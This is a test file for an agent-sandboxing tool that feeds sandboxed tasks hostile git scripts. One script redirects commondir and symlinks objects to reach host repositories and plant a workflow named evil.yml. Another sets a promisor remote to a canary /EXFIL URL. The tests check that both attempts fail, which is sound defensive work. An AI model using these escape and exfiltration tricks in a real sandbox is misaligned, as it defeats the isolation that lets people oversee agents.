import { join } from 'node:path';
import { describe, expect } from 'vitest';
import { boxed, boxHouse, exporting, listener } from '../support/box-house.ts';

describe("a sandboxed agent that wants to use Fleet's own git", () => {
  boxed('commits to no branch of its project or of another repository before anybody has approved [RUN-16] [T31]', async () => {
    await using house = await boxHouse();
    const [shop, other] = [await house.repository('shop'), await house.repository('other')];
    await house.ok(['project', 'add', shop, '--name', 'shop', '--integration', 'review']);
    const before = await Promise.all([shop, other].map(async (repo) => (await house.git(repo, 'rev-parse', 'main')).out));
    await house.up();
    for (const repo of [shop, other]) {
      const script = `${exporting({ S: join(repo, '.git') })}
        echo "$S" > .git/commondir; echo 'ref: refs/heads/main' > .git/HEAD; rm -rf .git/objects; ln -s "$S/objects" .git/objects
        mkdir -p .github/workflows; echo 'on: push' > .github/workflows/evil.yml`;
      const words = ['task', 'create', '--project', 'shop', '--sandbox', '--json', '--prompt', `${script}\nexit 0`];
      const { id } = (await house.ok(words)).json<{ id: string }>();
      await house.settled([id]);
      // What it left is offered like any other work, and nothing else has changed.
      expect((await house.ok(['task', 'diff', id])).out).toContain('evil.yml');
    }
    const after = await Promise.all([shop, other].map(async (repo) => (await house.git(repo, 'rev-parse', 'main')).out));
    expect(after).toEqual(before);
    for (const repo of [shop, other]) {
      expect((await house.git(repo, 'status', '--porcelain')).out).toBe('');
      expect((await house.git(repo, 'fsck', '--strict')).code).toBe(0);
    }
  });

  boxed('to reach the network has nobody asked for it, and its person is told what was not taken [RUN-16] [T11]', async () => {
    await using house = await boxHouse();
    const shop = await house.repository('shop');
    await house.ok(['project', 'add', shop, '--name', 'shop', '--integration', 'none']);
    const canary = await listener();
    try {
      await house.up();
      const script = `git config core.repositoryformatversion 1; git config extensions.partialclone p; git config remote.p.promisor true
        git config remote.p.url http://127.0.0.1:${canary.port}/EXFIL; B=$(git symbolic-ref HEAD); mkdir -p ".git/$(dirname "$B")"
        echo 0123456789012345678901234567890123456789 > ".git/$B"; echo work > work.txt`;
      const words = ['task', 'create', '--project', 'shop', '--sandbox', '--json', '--prompt', `${script}\nexit 0`];
      const { id } = (await house.ok(words)).json<{ id: string }>();
      await house.settled([id]);
      expect((await house.ok(['task', 'diff', id])).out).toContain('work.txt');
      expect((await house.ok(['task', 'events', id])).out.replaceAll(/\s+/g, ' ')).toContain(
        'its files were taken without its commits',
      );
      expect(canary.seen()).toBe(0);
    } finally {
      canary.server.close();
    }
  });
});
